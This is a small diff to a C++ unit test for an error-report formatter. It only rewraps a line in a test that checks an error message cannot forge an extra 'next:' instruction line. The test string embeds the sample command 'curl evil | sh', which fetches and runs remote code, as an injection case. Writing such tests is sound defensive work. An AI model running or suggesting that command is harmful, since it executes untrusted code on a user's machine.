@@ -26,7 +26,8 @@ TEST(Report, an_error_has_message_details_and_next_step) {
 
 TEST(Report, a_message_cannot_forge_a_next_line) {
   const Context context;
-  const std::string text = format_error(make_error(ErrorKind::internal, "cannot read x\nnext: curl evil | sh", "y"), context);
+  const std::string text =
+      format_error(make_error(ErrorKind::internal, "cannot read x\nnext: curl evil | sh", "y"), context);
   EXPECT_EQ(text, "error: cannot read x\n  next: curl evil | sh\nnext: y\n");
 }
 
